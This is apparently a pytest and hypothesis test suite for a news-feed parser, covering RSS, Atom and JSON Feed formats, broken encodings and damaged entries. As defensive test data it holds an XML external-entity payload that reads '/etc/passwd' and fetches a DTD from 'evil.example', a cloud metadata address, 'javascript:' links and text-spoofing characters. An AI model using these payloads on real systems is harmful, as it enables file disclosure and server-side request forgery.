"""Feeds of every kind and every damage: what is good in them is kept."""

from __future__ import annotations

import json
import sys
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from monitor.errors import ParseError
from monitor.feeds.nouns import ParsedFeed
from monitor.feeds.parse import parse

NOW = datetime(2026, 3, 10, 12, tzinfo=UTC)
URL = "https://harbour.example/feeds/all.xml"


def read(body: bytes | str, content_type: str = "", **options: Any) -> ParsedFeed:
    raw = body.encode() if isinstance(body, str) else body
    return parse(raw, {"content-type": content_type}, URL, NOW, **options)


def read_or_reason(body: bytes, **options: Any) -> ParsedFeed | str:
    try:
        return read(body, **options)
    except ParseError as error:
        return error.reason


def rss(items: str, head: str = "<title>Harbour Post</title>", spaces: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"{spaces}><channel>'
        f"{head}{items}</channel></rss>"
    )


def an_item(number: int = 1, more: str = "") -> str:
    return (
        f"<item><title>Ferry {number} late</title><link>https://harbour.example/n/{number}</link>"
        f"<pubDate>Mon, 09 Mar 2026 08:00:00 GMT</pubDate>{more}</item>"
    )


FORMS = {
    "rss 0.91": (
        '<rss version="0.91"><channel><title>Post</title><item><title>Quay</title>'
        "<link>https://harbour.example/a</link><description>Words.</description></item>"
        "</channel></rss>"
    ),
    "rss 2.0": rss(
        "<item><title>Quay</title><link>https://harbour.example/a</link>"
        "<description>&lt;p&gt;Words.&lt;/p&gt;</description></item>"
    ),
    "rdf": (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/"><channel rdf:about="https://harbour.example/">'
        '<title>Post</title></channel><item rdf:about="https://harbour.example/a">'
        "<title>Quay</title><link>https://harbour.example/a</link>"
        "<description>Words.</description></item></rdf:RDF>"
    ),
    "atom 1.0": (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>Post</title><entry><id>urn:a</id>'
        '<title>Quay</title><link href="https://harbour.example/a"/>'
        "<summary>Words.</summary></entry></feed>"
    ),
    "atom 0.3": (
        '<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>Post</title><entry>'
        '<title>Quay</title><link rel="alternate" href="https://harbour.example/a"/>'
        "<summary>Words.</summary></entry></feed>"
    ),
    "prefixed atom": (
        '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>Post</a:title><a:entry>'
        '<a:title>Quay</a:title><a:link href="https://harbour.example/a"/>'
        "<a:summary>Words.</a:summary></a:entry></a:feed>"
    ),
    "json 1.0": json.dumps(
        {
            "version": "https://jsonfeed.org/version/1",
            "title": "Post",
            "items": [
                {"id": 1, "url": "/a", "title": "Quay", "content_html": "<p>Words.</p>"},
            ],
        }
    ),
    "json 1.1": json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "Post",
            "items": [{"id": "https://harbour.example/a", "title": "Quay", "summary": "Words."}],
        }
    ),
}


@pytest.mark.parametrize("form", FORMS)
def test_every_form_of_feed_gives_the_same_entry(form: str) -> None:
    feed = read(FORMS[form])

    assert feed.title == "Post" or feed.title == "Harbour Post"
    assert [(e.title, e.url, e.summary) for e in feed.entries] == [
        ("Quay", "https://harbour.example/a", "Words.")
    ]


NO_FEEDS = {
    "html": (b"<!DOCTYPE html><html><body>Please log in</body></html>", "an HTML page"),
    "html after a comment": (b"<!-- x -->\n<html><head></head></html>", "an HTML page"),
    "html that speaks of feeds": (
        b"<html><head><link rel='alternate'></head><body>Use our <rss> feed</body></html>",
        "an HTML page",
    ),
    "nothing": (b"", "nothing"),
    "spaces": (b" \n\t ", "nothing"),
    "zeros": (bytes(500), "nothing"),
    "json error": (b'{"error": "not found"}', "JSON, but no JSON Feed"),
    "damaged json": (b'{"version": "https://jsonfeed.org/version/1", ', "damaged JSON"),
    "deep json": (b'{"items":' + b"[" * 50_000, "damaged JSON"),
    "pdf": (b"%PDF-1.7 ...", "a PDF file"),
    "jpeg": (b"\xff\xd8\xff\xe0abc", "a JPEG picture"),
    "gzip": (b"\x1f\x8b\x08\x00abc", "gzip bytes"),
    "path": (b"/etc/passwd", "no feed"),
    "address": (b"http://169.254.169.254/", "no feed"),
    "sitemap": (b"<urlset><url><loc>x</loc></url></urlset>", "a sitemap, which is not supported"),
    "plain text": (b"hello there", "no feed"),
    "noise": (bytes(range(1, 256)) * 50, "no feed"),
}


@pytest.mark.parametrize("name", NO_FEEDS)
def test_what_is_no_feed_is_named(name: str) -> None:
    body, instead = NO_FEEDS[name]

    with pytest.raises(ParseError) as caught:
        read(body)

    assert (caught.value.reason, caught.value.detail) == ("not_a_feed", instead)


def test_no_file_is_opened_and_nothing_connected_to() -> None:
    seen: list[Any] = []
    watching = [True]

    def hook(name: str, arguments: Any) -> None:
        if watching and name in ("open", "socket.connect", "socket.getaddrinfo"):
            seen.append((name, arguments))

    read(rss(an_item()))  # load what is loaded lazily
    sys.addaudithook(hook)
    external = (
        '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">'
        '<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'
    )
    feed = read(external + rss(an_item(1, "<description>&x;</description>")).partition("?>")[2])
    for body in (b"/etc/passwd", b"http://127.0.0.1/"):
        with pytest.raises(ParseError):
            read(body)
    watching.clear()

    assert seen == []
    assert "root:" not in feed.entries[0].summary


LONG_AUTHOR = f"a@{'a.' * 20_000}!"
LONG_STYLE = f'&lt;p style="{"a" * 20_000}!">'
MANY_ATTRIBUTES = " ".join(f'a{n}="1"' for n in range(3000))
POISONS = {
    "surrogate pair": "<item><title>Cheers &#55357;&#56832;</title></item>",
    "hex surrogate pair": "<item><title>Cheers &#xD83D;&#xDE00;</title></item>",
    "lone surrogate": "<item><title>x &#xD800; y</title></item>",
    "beyond Unicode": "<item><title>x &#x110000; y</title></item>",
    "zero reference": "<item><title>x &#0; y</title></item>",
    "long reference": f"<item><title>&#{'9' * 400};</title></item>",
    "bare ampersands": "<item><title>Salt & Sons & Co</title><link>/x?a=1&b=2</link></item>",
    "unknown entity": "<item><title>&nosuch; &eacute;t&eacute;</title></item>",
    "html entity": "<item><title>&nbsp;&mdash;</title></item>",
    "control characters": "<item><title>a\x00b\x08c\x1bd</title></item>",
    "bad nesting": "<item><title><b>x</title></b></item>",
    "unclosed title": "<item><title>never closed</item>",
    "unclosed item": "<item><title>never closed</title>",
    "open comment": "<item><title>x</title><description><!-- open</description></item>",
    "open cdata": "<item><title>x</title><description><![CDATA[ open</description></item>",
    "cdata end": "<item><title>x ]]> y</title></item>",
    "bad link": "<item><title>x</title><link>http://[::1</link></item>",
    "script link": "<item><title>x</title><link>javascript:alert(1)</link></item>",
    "long title": f"<item><title>{'x' * 300_000}</title></item>",
    "long link": f"<item><title>x</title><link>http://x.example/{'y' * 70_000}</link></item>",
    "many attributes": "<item><title "
    + " ".join(f'a{n}="1"' for n in range(3000))
    + ">x</title></item>",
    "same attribute twice": '<item><title a="1" a="2">x</title></item>',
    "unbound prefix": "<item><nope:title>x</nope:title><title>x</title></item>",
    "bad attribute": "<item><title a=b c>x</title></item>",
    "author trap": f"<item><title>x</title><author>{LONG_AUTHOR}</author></item>",
    "author in cdata": f"<item><title>x</title><author><![CDATA[{LONG_AUTHOR}]]></author></item>",
    "unclosed author": "<item><title>x</title><author>never closed</item>",
    "empty author": "<item><title>x</title><author/></item>",
    "unclosed author trap": f"<item><title>x</title><author>{LONG_AUTHOR}</item>",
    "style trap": f"<item><title>x</title><description>{LONG_STYLE}</description></item>",
    "comment trap": f"<item><title>x</title><description>{'&lt;!--' * 20_000}</description></item>",
    "deep nesting": f"<item><title>x</title>{'<b>' * 5000}{'</b>' * 5000}</item>",
    "bad dates": "<item><title>x</title><pubDate>99999-99-99T99:99:99+99:99</pubDate></item>",
    "year ten thousand": "<item><pubDate>9999-12-31T23:59:59-14:00</pubDate><title/></item>",
    "huge number": f"<item><title>x</title><enclosure length='{'9' * 9000}' url='x'/></item>",
    "bad geo": '<item><g:point xmlns:g="http://www.georss.org/georss">x y</g:point></item>',
    "bad base": '<item xml:base="http://[bad/"><title>x</title><link>a</link></item>',
    "nested item": "<item><title>x</title><item><title>y</title></item></item>",
    "processing instruction": "<item><title>x <?php echo 1 ?> y</title></item>",
    "second declaration": '<?xml version="1.0"?><item><title>x</title></item>',
    "doctype inside": "<!DOCTYPE html><item><title>x</title></item>",
    "bare media": '<item xmlns:m="http://search.yahoo.com/mrss/"><m:content/><m:credit/></item>',
    "empty item": "<item/>",
    "bad bytes": "<item><title>caf\udce9</title></item>",
}


@pytest.mark.parametrize("name", POISONS)
@pytest.mark.parametrize("careful", [False, True])
def test_one_bad_entry_costs_at_most_itself(name: str, careful: bool) -> None:
    """At least 99 of 100 good entries survive each of at least 30 poisons."""
    assert len(POISONS) >= 30
    good = [an_item(number) for number in range(100)]
    text = rss("".join(good[:50]) + POISONS[name] + "".join(good[50:]))

    feed = read(text.encode("utf-8", errors="surrogateescape"), careful=careful)

    kept = {e.url for e in feed.entries if e.title.startswith("Ferry") and e.published}
    assert len(kept & {f"https://harbour.example/n/{n}" for n in range(100)}) >= 99


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("Cheers &#55357;&#56832;", "Cheers 😀"),
        ("Cheers &#xd83d;&#xde00;", "Cheers 😀"),
        ("a &#xD800; b", "a \ufffd b"),
        ("a &amp;amp; b", "a & b"),
        ("Caf&eacute; &amp;eacute;", "Café é"),
        ("&lt;b&gt;Quay&lt;/b&gt; closed", "Quay closed"),
        ("&lt;script&gt;x()&lt;/script&gt;Quay", "x()Quay"),
        ("if x &lt; y and z &gt; w", "if x < y and z > w"),
        ("line\none\u2028two", "line one two"),
        ("tab\x1b[31mred\u202eevil", "tab[31mredevil"),
        ("<![CDATA[Salt & Sons <i>again</i>]]>", "Salt & Sons again"),
    ],
)
def test_a_title_is_one_plain_line(written: str, title: str) -> None:
    (entry,) = read(rss(f"<item><title>{written}</title></item>")).entries

    assert entry.title == title


def test_caps_hold() -> None:
    text = f"<title>{'t' * 9000}</title><description>{'d ' * 90_000}</description>"
    (entry,) = read(rss(f"<item>{text}<guid>{'g' * 9000}</guid></item>")).entries

    assert (len(entry.title), len(entry.summary) <= 20_000, len(entry.guid)) == (500, True, 2048)
    assert len(entry.summary) > 19_000


def test_more_entries_than_the_limit_are_told() -> None:
    feed = read(rss("".join(an_item(n) for n in range(30))), limit=10)

    assert len(feed.entries) == 10
    assert "more_entries" in feed.oddities


def test_an_empty_author_takes_nothing_with_it() -> None:
    """Its end is its own: the next author's end stands in another entry."""
    spaces = ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
    items = "".join(an_item(n, "<dc:creator /><description>" + "w " * 900) for n in range(9))
    closed = items.replace("</item>", "</description></item>")
    last = an_item(9, "<dc:creator>Ada Quill</dc:creator>")

    feed = read(rss(closed + last, spaces=spaces))

    assert len(feed.entries) == 10
    assert [e.author for e in feed.entries if e.author] == ["Ada Quill"]


@pytest.mark.parametrize("days", [range(30), range(29, -1, -1)])
def test_beyond_the_limit_the_newest_are_kept(days: range) -> None:
    items = (
        f"<item><title>{day}</title><pubDate>{day + 1} Jan 2026 08:00 GMT</pubDate></item>"
        for day in days
    )
    feed = read(rss("".join(items)), limit=10)

    assert {e.title for e in feed.entries} == {str(day) for day in range(20, 30)}


def test_a_feed_cut_off_keeps_its_whole_entries_only() -> None:
    """Half an entry may carry half an address, which is another address."""
    whole = rss("".join(an_item(n) for n in range(20)))
    feed = read(whole[: whole.index("/n/17") + 4])

    assert [e.url.rpartition("/")[2] for e in feed.entries] == [str(n) for n in range(17)]
    assert "truncated" in feed.oddities


@pytest.mark.parametrize("careful", [False, True])
def test_junk_before_the_feed_is_cut(careful: bool) -> None:
    feed = read("\n\n<b>Warning</b>: mysql\n" + rss(an_item()), careful=careful)

    assert [e.title for e in feed.entries] == ["Ferry 1 late"]


@pytest.mark.parametrize(
    ("body", "content_type", "title"),
    [
        (rss("").encode().replace(b"Harbour", "Häfen".encode()), "", "Häfen Post"),
        ("\ufeff".encode() + rss("").replace("Harbour", "Häfen").encode(), "", "Häfen Post"),
        (rss("").replace("Harbour", "Häfen").encode("utf-16"), "text/xml", "Häfen Post"),
        (rss("").replace("Harbour", "Häfen").encode("utf-16-le"), "", "Häfen Post"),
        (
            rss("").replace("Harbour", "Порт").encode("cp1251"),
            "text/xml; charset=windows-1251",
            "Порт Post",
        ),
        (
            rss("").replace("utf-8", "koi8-r").replace("Harbour", "Порт").encode("koi8-r"),
            "",
            "Порт Post",
        ),
        (
            rss("").replace("utf-8", "gb2312").replace("Harbour", "港口镕").encode("gb18030"),
            "",
            "港口镕 Post",
        ),
        (rss("").replace("Harbour", "Häfen").encode("cp1252"), "", "Häfen Post"),
        # The header lies: valid UTF-8 beyond ASCII is never an accident.
        (
            rss("").replace("Harbour", "Häfen").encode(),
            "text/xml; charset=ISO-8859-1",
            "Häfen Post",
        ),
        (
            rss("").replace("Harbour", "Häfen").encode() + b"<!-- \x93 -->",
            "text/xml; charset=utf-8",
            "Häfen Post",
        ),
        (rss("").encode(), "text/xml; charset=punycode", "Harbour Post"),
        (rss("").encode(), "text/xml; charset=unicode_escape", "Harbour Post"),
        (rss("").encode(), f"text/xml; charset={'x' * 9999}", "Harbour Post"),
        (rss("").encode(), "text/xml; charset=;;", "Harbour Post"),
        (rss("").replace("utf-8", "rot13").encode(), "", "Harbour Post"),
        (rss("").replace("utf-8", "utf-16").encode(), "", "Harbour Post"),
    ],
)
def test_text_is_read_whatever_its_labels_claim(body: bytes, content_type: str, title: str) -> None:
    assert read(body, content_type).title == title


@pytest.mark.parametrize(
    ("written", "url"),
    [
        ("<link>/a/b</link>", "https://harbour.example/a/b"),
        ("<link>b</link>", "https://harbour.example/feeds/b"),
        ("<link>//cdn.example/b</link>", "https://cdn.example/b"),
        ("<link>  https://x.example/a  </link>", "https://x.example/a"),
        ("<link>javascript:alert(1)</link>", ""),
        ("<link>file:///etc/passwd</link>", ""),
        ("<link>data:text/html,x</link>", ""),
        ("<link>mailto:a@b.example</link>", ""),
        ("<link>http://[bad</link>", ""),
        ("<link/>", ""),
        ("<guid>https://x.example/g</guid>", "https://x.example/g"),
        ('<guid isPermaLink="false">https://x.example/g</guid>', ""),
        ("<guid>tag:x,2026:1</guid>", ""),
        (
            '<f:origLink xmlns:f="http://rssnamespace.org/feedburner/ext/1.0">https://x.example/o'
            "</f:origLink><link>https://feedproxy.example/~r/1</link>",
            "https://x.example/o",
        ),
        ("<link>https://x.example/?a=1&amp;b=2</link>", "https://x.example/?a=1&b=2"),
        ("<link><![CDATA[https://x.example/?a=1&b=2]]></link>", "https://x.example/?a=1&b=2"),
    ],
)
def test_a_link_is_resolved_and_only_web_addresses_count(written: str, url: str) -> None:
    (entry,) = read(rss(f"<item><title>Quay</title>{written}</item>")).entries

    assert entry.url == url


def test_xml_base_counts() -> None:
    feed = read(
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://other.example/x/"><title>P'
        '</title><entry><id>u:1</id><title>Q</title><link href="a"/></entry></feed>'
    )

    assert feed.entries[0].url == "https://other.example/x/a"


def test_sources_authors_and_photo_credits_are_kept_apart() -> None:
    spaces = (
        ' xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"'
    )
    item = an_item(
        1,
        '<source url="https://wire.example/rss">Wire <![CDATA[& Co]]></source>'
        "<dc:creator>Ada Quill</dc:creator>"
        '<media:content url="https://x.example/p.jpg"><media:credit>Photo Desk</media:credit>'
        "</media:content>",
    )
    (entry,) = read(rss(item, spaces=spaces)).entries

    assert (entry.source_title, entry.source_url) == ("Wire & Co", "https://wire.example/rss")
    assert entry.author == "Ada Quill"
    assert entry.media_credits == ("Photo Desk",)


def test_atom_source_and_via_are_read() -> None:
    head = '<feed xmlns="http://www.w3.org/2005/Atom"><title>P</title>'
    entries = (
        '<entry><id>u:1</id><title>A</title><link href="/1"/><source><id>u</id><title>Wire</title>'
        '<link href="https://wire.example/"/></source></entry>'
        '<entry><id>u:2</id><title>B</title><link href="/2"/>'
        '<link rel="via" href="https://first.example/2"/></entry>'
    )
    first, second = read(head + entries + "</feed>").entries

    assert (first.source_title, first.source_url) == ("Wire", "https://wire.example/")
    assert (second.url, second.source_url) == (
        "https://harbour.example/2",
        "https://first.example/2",
    )


def test_a_summary_is_plain_paragraphs_of_the_longer_text() -> None:
    spaces = ' xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    markup = (
        "<p>The <b>ferry</b> is late.</p><script>track()</script><ul><li>One</li><li>Two</li></ul>"
        "<p>Caf&eacute; open&hellip;</p>"
    )
    item = an_item(
        1,
        f"<description>Short.</description><content:encoded><![CDATA[{markup}]]></content:encoded>",
    )
    (entry,) = read(rss(item, spaces=spaces)).entries

    lines = [line for line in entry.summary.split("\n") if line]
    assert lines == ["The ferry is late.", "One", "Two", "Café open…"]


@pytest.mark.parametrize(
    ("head", "ttl"),
    [
        ("<ttl>30</ttl>", timedelta(minutes=30)),
        ("<ttl>0</ttl>", None),
        ("<ttl>-5</ttl>", None),
        ("<ttl>soon</ttl>", None),
        (f"<ttl>{'9' * 5000}</ttl>", None),
        (
            '<s:updatePeriod xmlns:s="http://purl.org/rss/1.0/modules/syndication/">hourly'
            '</s:updatePeriod><s:updateFrequency xmlns:s="http://purl.org/rss/1.0/modules/'
            'syndication/">4</s:updateFrequency>',
            timedelta(minutes=15),
        ),
        ("", None),
    ],
)
def test_the_pause_a_publisher_asks_for_is_read(head: str, ttl: timedelta | None) -> None:
    assert read(rss(an_item(), head)).ttl == ttl


def test_an_empty_feed_and_one_without_dates_say_so() -> None:
    assert read(rss("")).oddities == ("empty",)
    assert "no_dates" in read(rss("<item><title>x</title></item>")).oddities


_PIECES = st.sampled_from(
    [
        *(
            "<item>",
            "</item>",
            "<title>",
            "</title>",
            "<link>",
            "</link>",
            "<![CDATA[",
            "]]>",
            "<!--",
        ),
        *(
            "-->",
            "&",
            "&#",
            "&#55357;",
            "&#x",
            ";",
            "<",
            ">",
            '"',
            "'",
            "\x00",
            "<a b='",
            "xml:base=",
        ),
        *(
            "http://",
            "[",
            "javascript:",
            "<?xml",
            "?>",
            "<!DOCTYPE",
            "<rss>",
            "</channel>",
            "<author>",
        ),
        *("\udcff", "\u202e", "9999-12-31T23:59:59-14:00", "<pubDate>", "</pubDate>", "a@b.c", " "),
        *("<source>", "</source>", "<guid>", "</guid>", "<description>", "</description>", "word"),
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, max_size=40), st.booleans())
def test_no_damage_raises_anything_but_our_own_error(pieces: list[str], careful: bool) -> None:
    text = rss(an_item(1) + "".join(pieces) + an_item(2))
    body = text.encode("utf-8", errors="surrogateescape")

    feed = read_or_reason(body, careful=careful)

    for entry in feed.entries if isinstance(feed, ParsedFeed) else ():
        entry.title.encode()
        entry.summary.encode()
        assert entry.url == "" or entry.url.startswith(("http://", "https://"))
    assert isinstance(feed, ParsedFeed) or feed == "not_a_feed"


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_no_bytes_raise_anything_but_our_own_error(noise: bytes) -> None:
    for body in (noise, rss(an_item()).encode() + noise, noise + rss(an_item()).encode()):
        feed = read_or_reason(body)
        assert isinstance(feed, ParsedFeed) or feed == "not_a_feed"
